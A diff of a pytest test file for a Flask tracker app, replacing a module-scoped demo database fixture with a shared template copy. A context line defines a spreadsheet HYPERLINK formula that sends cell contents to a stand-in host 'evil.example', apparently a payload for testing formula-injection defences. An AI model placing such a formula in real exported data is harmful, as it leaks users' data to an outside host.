@@ -38,27 +38,13 @@ WORDS = set(dashboard.WORDS.values())
 EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
 
 
-@pytest.fixture(scope="module")
-def demo_db(kingston_db_template: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
-    """Kingston with its demo history up to 2026/27 Q2, made once for the module."""
-    path = tmp_path_factory.mktemp("pack") / "demo.db"
-    shutil.copy(kingston_db_template, path)
-    app = _make_app(path)
-    result = app.test_cli_runner().invoke(args=["demo", "--today", TODAY.isoformat()])
-    assert result.exit_code == 0, result.output
-    engine = get_engine(app)
-    with engine.connect() as conn:
-        conn.exec_driver_sql("PRAGMA wal_checkpoint(TRUNCATE)")
-    engine.dispose()
-    return path
-
-
 @pytest.fixture
-def demo_app(demo_db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Flask]:
+def demo_app(demo_db_template: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+             ) -> Iterator[Flask]:
     """A copy of the demo database for one test, today pinned to 25 November 2026."""
     pin_today(monkeypatch)
     target = tmp_path / "tracker.db"
-    shutil.copy(demo_db, target)
+    shutil.copy(demo_db_template, target)
     app = _make_app(target)
     yield app
     get_engine(app).dispose()
